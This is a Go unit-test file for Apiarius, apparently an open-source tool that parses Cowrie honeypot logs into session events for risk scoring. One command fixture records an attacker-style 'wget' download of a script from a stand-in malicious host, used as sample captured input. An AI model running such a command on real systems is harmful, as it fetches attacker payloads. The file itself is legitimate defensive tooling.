// Apiarius - Honeypot Telemetry Analytics and Session Risk Scoring
// Copyright 2026 P. Moreau (pmoreau84)
// SPDX-License-Identifier: AGPL-3.0-or-later
// https://github.com/pmoreau84/apiarius

package cowrie

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pmoreau84/apiarius/internal/models"
)

func TestMapConnect(t *testing.T) {
	a := New()
	line := []byte(`{"eventid":"cowrie.session.connect","session":"c0ffee01","timestamp":"2026-03-01T12:00:00.123456Z","src_ip":"203.0.113.7","src_port":51234,"dst_port":2222,"protocol":"ssh","sensor":"hp-paris"}`)

	ev, err := a.Map(line)
	require.NoError(t, err)

	assert.Equal(t, models.EventKindSessionOpen, ev.Kind)
	assert.Equal(t, "c0ffee01", ev.SessionID)
	assert.Equal(t, "203.0.113.7", ev.SrcIP)
	assert.Equal(t, 51234, ev.SrcPort)
	assert.Equal(t, 2222, ev.DstPort)
	assert.Equal(t, "ssh", ev.Protocol)
	assert.Equal(t, "hp-paris", ev.Sensor)
	assert.Equal(t, "cowrie", ev.HoneypotType)
	assert.NotEmpty(t, ev.EventID)
	assert.Equal(t, time.Date(2026, 3, 1, 12, 0, 0, 123456000, time.UTC), ev.Timestamp)
}

func TestMapLoginFailedAndSuccess(t *testing.T) {
	a := New()

	failed, err := a.Map([]byte(`{"eventid":"cowrie.login.failed","session":"s1","timestamp":"2026-03-01T12:00:01Z","username":"root","password":"admin"}`))
	require.NoError(t, err)
	assert.Equal(t, models.EventKindAuthAttempt, failed.Kind)
	assert.Equal(t, "root", failed.Username)
	assert.Equal(t, "admin", failed.Password)
	assert.False(t, failed.Success)

	success, err := a.Map([]byte(`{"eventid":"cowrie.login.success","session":"s1","timestamp":"2026-03-01T12:00:02Z","username":"root","password":"123456"}`))
	require.NoError(t, err)
	assert.True(t, success.Success)
}

func TestMapCommand(t *testing.T) {
	a := New()

	ev, err := a.Map([]byte(`{"eventid":"cowrie.command.input","session":"s1","timestamp":"2026-03-01T12:00:03Z","input":"wget http://evil.example/x.sh"}`))
	require.NoError(t, err)
	assert.Equal(t, models.EventKindCommand, ev.Kind)
	assert.Equal(t, "wget http://evil.example/x.sh", ev.CommandText)
}

func TestMapClosedCarriesDuration(t *testing.T) {
	a := New()

	ev, err := a.Map([]byte(`{"eventid":"cowrie.session.closed","session":"s1","timestamp":"2026-03-01T12:05:00Z","duration":287.5}`))
	require.NoError(t, err)
	assert.Equal(t, models.EventKindSessionClose, ev.Kind)
	assert.Equal(t, 287.5, ev.DurationSec)
}

func TestMapSkipsUnusedEventIDs(t *testing.T) {
	a := New()

	for _, eventid := range []string{
		"cowrie.session.file_download",
		"cowrie.client.version",
		"cowrie.log.closed",
	} {
		_, err := a.Map([]byte(`{"eventid":"` + eventid + `","session":"s1","timestamp":"2026-03-01T12:00:00Z"}`))
		assert.ErrorIs(t, err, ErrSkipped, eventid)
	}
}

func TestMapMalformed(t *testing.T) {
	a := New()

	tests := []struct {
		name string
		line string
	}{
		{"not json", `{{{`},
		{"no eventid", `{"session":"s1","timestamp":"2026-03-01T12:00:00Z"}`},
		{"no session", `{"eventid":"cowrie.session.connect","timestamp":"2026-03-01T12:00:00Z"}`},
		{"bad timestamp", `{"eventid":"cowrie.session.connect","session":"s1","timestamp":"yesterday"}`},
		{"command without input", `{"eventid":"cowrie.command.input","session":"s1","timestamp":"2026-03-01T12:00:00Z"}`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := a.Map([]byte(tc.line))
			assert.ErrorIs(t, err, models.ErrMalformedEvent)
		})
	}
}

func TestMapDefaultSensor(t *testing.T) {
	a := New()

	ev, err := a.Map([]byte(`{"eventid":"cowrie.session.connect","session":"s1","timestamp":"2026-03-01T12:00:00Z"}`))
	require.NoError(t, err)
	assert.Equal(t, DefaultSensor, ev.Sensor)
}

func TestMapBatch(t *testing.T) {
	a := New()

	lines := [][]byte{
		[]byte(`{"eventid":"cowrie.session.connect","session":"s1","timestamp":"2026-03-01T12:00:00Z"}`),
		[]byte(`{"eventid":"cowrie.client.version","session":"s1","timestamp":"2026-03-01T12:00:00Z"}`),
		[]byte(`{"eventid":"cowrie.command.input","session":"s1","timestamp":"2026-03-01T12:00:01Z","input":"ls"}`),
	}

	events, err := a.MapBatch(lines)
	require.NoError(t, err)
	require.Len(t, events, 2)
	assert.Equal(t, models.EventKindSessionOpen, events[0].Kind)
	assert.Equal(t, models.EventKindCommand, events[1].Kind)

	// A malformed line fails the whole batch.
	lines = append(lines, []byte(`{{{`))
	_, err = a.MapBatch(lines)
	assert.ErrorIs(t, err, models.ErrMalformedEvent)
}

func TestMapEventIDsAreUnique(t *testing.T) {
	a := New()
	line := []byte(`{"eventid":"cowrie.session.connect","session":"s1","timestamp":"2026-03-01T12:00:00Z"}`)

	ev1, err := a.Map(line)
	require.NoError(t, err)
	ev2, err := a.Map(line)
	require.NoError(t, err)
	assert.NotEqual(t, ev1.EventID, ev2.EventID)
}
